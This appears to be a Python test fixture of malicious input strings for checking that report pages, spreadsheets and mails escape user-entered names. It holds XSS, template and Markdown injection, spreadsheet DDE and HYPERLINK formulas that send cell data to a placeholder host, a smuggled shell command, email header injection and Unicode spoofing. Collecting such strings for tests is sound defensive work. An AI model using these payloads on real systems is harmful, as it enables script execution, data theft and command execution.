"""What customers, product managers and importers have typed into fields that reports show.

Each string would do something in one of the places that a name can reach: a page, a table, a chart,
a spreadsheet, a mail, a log. A page in which one works sets `window.hacked`, asks for an address at
`canary.invalid`, opens a dialog, or answers 49 where it should say ``{{ 7 * 7 }}``.
"""

from __future__ import annotations

CANARY = "canary.invalid"  # a name that no resolver knows
CALLED = "window.hacked=1"

SCRIPTS = (
    f"<script>{CALLED}</script>",
    f"</script><script>{CALLED}</script>",
    f"<ScRiPt src=//{CANARY}/x.js></ScRiPt>",
    f"<script/x>{CALLED}</script",
    f"<scr<script>ipt>{CALLED}</scr</script>ipt>",
    f"</title></style></textarea><script>{CALLED}</script>",
)
HANDLERS = (
    f"<img src=x onerror='{CALLED}'>",
    f"<body onload={CALLED}>",
    f"<details open ontoggle={CALLED}>x</details>",
    f"<input autofocus onfocus={CALLED}>",
    f'" onmouseover="{CALLED}" x="',
    f"' onclick='{CALLED}' x='",
    f"<a href=# style=animation-name:x onanimationstart={CALLED}>x</a>",
)
PICTURES = (
    f'"><svg onload="{CALLED}">',
    f"<svg><script>{CALLED}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALLED}'><text>x</text></a></svg>",
    f"<math><mtext><style><img src=x onerror={CALLED}></style></mtext></math>",
    f"<svg><use href='https://{CANARY}/x.svg#x'/></svg>",
)
ADDRESSES = (
    f"<a href='javascript:{CALLED}'>x</a>",
    f"<a href='JaVa\tScRiPt:{CALLED}'>x</a>",
    f"<iframe src='data:text/html,<script>parent.{CALLED}</script>'></iframe>",
    f"<object data='//{CANARY}/x.swf'></object><embed src='//{CANARY}/y'>",
    f"<base href='https://{CANARY}/'><link rel=stylesheet href=//{CANARY}/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{CANARY}/'>",
    f"<form action='https://{CANARY}/'><button>x</button></form>",
    f"<style>@import '//{CANARY}/x.css';*{{background:url(//{CANARY}/x.png)}}</style>",
)
MARKDOWN = (
    f"[x](javascript:{CALLED})",
    f"](javascript:alert(1)) ![x](https://{CANARY}/x.png)",
    f"[x]: data:text/html,<script>{CALLED}</script>\n[x]",
    f"<javascript:{CALLED}> **bold** # heading | cell",
    f"```html\n<img src=x onerror={CALLED}>\n```",
)
BROKEN = (
    f"<!-- --!><img src=x onerror={CALLED}> -->",
    f"<![CDATA[<img src=x onerror={CALLED}>]]>",
    "</td></tr></table></div></main></body></html>",
    f"<img src=x onerror={CALLED}//",
    f"&lt;script&gt;{CALLED}&lt;/script&gt; &#60;b&#62; &amp;#x3c;",
)
EXPRESSIONS = (
    f"datum.constructor.constructor('{CALLED}')()",
    f"'] + event.view.eval('{CALLED}') + datum['x",
    f'{{"signal": "event.view.eval(\'{CALLED}\')"}}',
    "{{ 7 * 7 }} {% raw %}",
    "${7*7} #{7*7} <%= 7*7 %> $(touch hacked) `touch hacked`",
    "__proto__ constructor.prototype.x %s %n {0.__class__}",
)
FORMULAS = (
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    f'\t=HYPERLINK("https://{CANARY}/?x="&A1,"x")',
    f'\n=IMPORTXML("https://{CANARY}/","//a")',
    "\N{FULLWIDTH EQUALS SIGN}1+1 \N{ZERO WIDTH NO-BREAK SPACE}=1+1",
)
HEADERS = (
    f"Weekly\r\nBcc: everybody@{CANARY}\r\n\r\n<script>{CALLED}</script>",
    "Weekly\n.\nMAIL FROM:<x>",
    "Weekly\u2028Subject: x\u2029\x85\x0b\x0c",
)
LETTERS = (
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING}\N{LEFT-TO-RIGHT ISOLATE}",
    "\N{ZERO WIDTH SPACE}U\N{ZERO WIDTH JOINER}K\N{SOFT HYPHEN}\N{WORD JOINER}",
    "n\x00u\x00l \x1b[31mred\x1b[0m \x07\x08\x7f \ufffe",
    "\N{CYRILLIC SMALL LETTER A}\N{CYRILLIC SMALL LETTER ER}\N{CYRILLIC SMALL LETTER ER}le",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN} \u017fcript",
    "Z" + "\u0301" * 60,
    "long " * 2_000,
)

STRINGS = (
    *(SCRIPTS + HANDLERS + PICTURES + ADDRESSES + MARKDOWN + BROKEN + EXPRESSIONS + FORMULAS),
    *(HEADERS + LETTERS),
)
